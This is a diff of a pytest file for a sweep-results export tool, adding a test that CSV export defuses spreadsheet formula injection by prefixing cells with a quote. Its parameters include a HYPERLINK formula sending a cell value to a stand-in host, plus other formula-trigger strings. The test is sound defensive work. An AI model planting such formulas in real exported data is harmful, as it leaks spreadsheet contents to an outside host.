@@ -25,7 +25,7 @@ def db(tmp_path_factory):
 
 @pytest.fixture(scope="module")
 def stored(db):
-    store = ResultStore.open_existing(db)
+    store = ResultStore.open_read_only(db)
     sweep = store.sweep()
     trials = store.trials(sweep["sweep_id"])
     store.engine.dispose()
@@ -89,3 +89,24 @@ def test_missing_database_or_sweep(tmp_path, db, capsys):
     assert "no results database" in capsys.readouterr().err
     assert main(["export", "--db", str(db), "--sweep", "nope"]) == 2
     assert "no sweep 'nope'" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("error", ['=HYPERLINK("http://x.example/?"&A1,"details")', "+1+2", "-2+3", "@SUM(A1)",
+                                   "\t=1+1", "\r=1+1"])
+def test_csv_cells_that_would_run_as_formulas_are_written_as_text(tmp_path, capsys, error):
+    """An error text is whatever a plugin raised: opened in a spreadsheet, a cell starting
+    with =, +, -, @, a tab or a carriage return would run as a formula."""
+    from seed_db import seed_sweep
+
+    db = tmp_path / "f.db"
+    sweep_id = seed_sweep(db, models=["resnet18"], pruners=["l1norm"], rates=[0.5], done=1)
+    with ResultStore(db) as store:
+        pending = store.trials(sweep_id, status="pending")[0]
+        store.record(sweep_id, pending["key"], {"status": "failed", "error": error, "accuracy_drop": -0.25})
+    assert main(["export", "--db", str(db)]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
+    failed = next(r for r in rows if r["status"] == "failed")
+    assert failed["error"] == "'" + error
+    assert failed["accuracy_drop"] == "-0.25"  # numbers stay numbers
+    assert main(["export", "--db", str(db), "--format", "json"]) == 0  # JSON is not for spreadsheets
+    assert error in [t["error"] for t in json.loads(capsys.readouterr().out)["trials"]]
